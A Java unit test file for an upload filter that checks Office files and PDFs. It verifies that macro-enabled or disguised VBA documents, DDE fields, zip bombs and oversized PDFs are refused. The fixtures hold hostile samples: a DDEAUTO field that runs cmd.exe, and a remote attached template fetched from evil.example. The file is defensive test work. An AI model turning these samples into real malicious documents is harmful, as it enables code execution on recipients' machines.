package org.gongkai.shared.storage;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Office files are judged by their content types, relationships and field codes, not their part
 * names, and read within zip-bomb limits; PDFs are parsed within size, page and time limits.
 */
class OfficeAndPdfLimitsTests {

  private static final String WORD_MAIN =
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
  private static final String RELS =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

  private static final String W =
      "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
  private static final String EMPTY_DOCUMENT = "<w:document " + W + "/>";

  @TempDir Path dir;

  @Test
  void aPlainWordDocumentWithAnExternalHyperlinkIsAccepted() throws IOException {
    Map<String, String> parts = document(WORD_MAIN, EMPTY_DOCUMENT);
    parts.put(
        "word/_rels/document.xml.rels",
        rels(
            "<Relationship Id=\"r1\" Type=\""
                + RELS
                + "hyperlink\" Target=\"https://www.gov.cn/\" TargetMode=\"External\"/>"));
    assertThat(FileTypes.detect(write("plain.docx", parts), "plain.docx"))
        .contains(FileTypes.Type.DOCX);
  }

  @Test
  void aMacroEnabledDocumentUnderAHarmlessPartNameIsRefused() throws IOException {
    Map<String, String> parts =
        document("application/vnd.ms-word.document.macroEnabled.main+xml", EMPTY_DOCUMENT);
    assertThat(FileTypes.detect(write("macro.docx", parts), "macro.docx")).isEmpty();

    Map<String, String> hidden = document(WORD_MAIN, EMPTY_DOCUMENT);
    hidden.put(
        "[Content_Types].xml",
        contentTypes(WORD_MAIN)
            .replace(
                "</Types>",
                "<Override PartName=\"/word/media/picture.xml\""
                    + " ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"));
    hidden.put("word/media/picture.xml", "<x/>");
    assertThat(FileTypes.detect(write("hidden.docx", hidden), "hidden.docx")).isEmpty();
  }

  @Test
  void anExternalAttachedTemplateIsRefused() throws IOException {
    Map<String, String> parts = document(WORD_MAIN, EMPTY_DOCUMENT);
    parts.put("word/settings.xml", "<w:settings " + W + "/>");
    parts.put(
        "word/_rels/settings.xml.rels",
        rels(
            "<Relationship Id=\"r1\" Type=\""
                + RELS
                + "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"));
    assertThat(FileTypes.detect(write("template.docx", parts), "template.docx")).isEmpty();
  }

  @Test
  void aDdeFieldIsRefusedSimpleOrComplex() throws IOException {
    String w = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    Map<String, String> complex =
        document(
            WORD_MAIN,
            "<w:document "
                + w
                + "><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r>"
                + "<w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText>"
                + "</w:r></w:p></w:body></w:document>");
    assertThat(FileTypes.detect(write("dde.docx", complex), "dde.docx")).isEmpty();
    Map<String, String> simple =
        document(
            WORD_MAIN,
            "<w:document "
                + w
                + "><w:body><w:p><w:fldSimple w:instr=\"DDE excel x y\"/></w:p></w:body></w:document>");
    assertThat(FileTypes.detect(write("dde2.docx", simple), "dde2.docx")).isEmpty();
  }

  @Test
  void aZipBombIsRefusedBeforeItIsInflated() throws IOException {
    Map<String, String> parts = document(WORD_MAIN, EMPTY_DOCUMENT);
    parts.put(
        "[Content_Types].xml",
        contentTypes(WORD_MAIN).replace("</Types>", " ".repeat(20_000_000) + "</Types>"));
    assertThat(FileTypes.detect(write("bomb.docx", parts), "bomb.docx")).isEmpty();
  }

  @Test
  void aPdfOverItsLimitsIsNotParsed() throws IOException {
    Path pdf = dir.resolve("pages.pdf");
    try (PDDocument doc = new PDDocument()) {
      for (int i = 0; i < 5; i++) {
        doc.addPage(new PDPage());
      }
      doc.save(pdf.toFile());
    }
    assertThat(PdfActiveContent.disarm(pdf, 10_000_000, 100, Duration.ofSeconds(30)))
        .isEqualTo(PdfActiveContent.Result.CLEAN);
    assertThat(PdfActiveContent.disarm(pdf, 10_000_000, 3, Duration.ofSeconds(30)))
        .as("too many pages")
        .isEqualTo(PdfActiveContent.Result.TOO_LARGE);
    assertThat(PdfActiveContent.disarm(pdf, 100, 100, Duration.ofSeconds(30)))
        .as("too many bytes")
        .isEqualTo(PdfActiveContent.Result.TOO_LARGE);
  }

  private Map<String, String> document(String mainType, String body) {
    Map<String, String> parts = new LinkedHashMap<>();
    parts.put("[Content_Types].xml", contentTypes(mainType));
    parts.put(
        "_rels/.rels",
        rels(
            "<Relationship Id=\"rId1\" Type=\""
                + RELS
                + "officeDocument\" Target=\"word/document.xml\"/>"));
    parts.put("word/document.xml", body);
    return parts;
  }

  private static String contentTypes(String mainType) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
        + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
        + "<Override PartName=\"/word/document.xml\" ContentType=\""
        + mainType
        + "\"/></Types>";
  }

  private static String rels(String inner) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + inner
        + "</Relationships>";
  }

  private Path write(String name, Map<String, String> parts) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (var part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
      }
    }
    Path file = dir.resolve(name);
    Files.write(file, bytes.toByteArray());
    return file;
  }
}
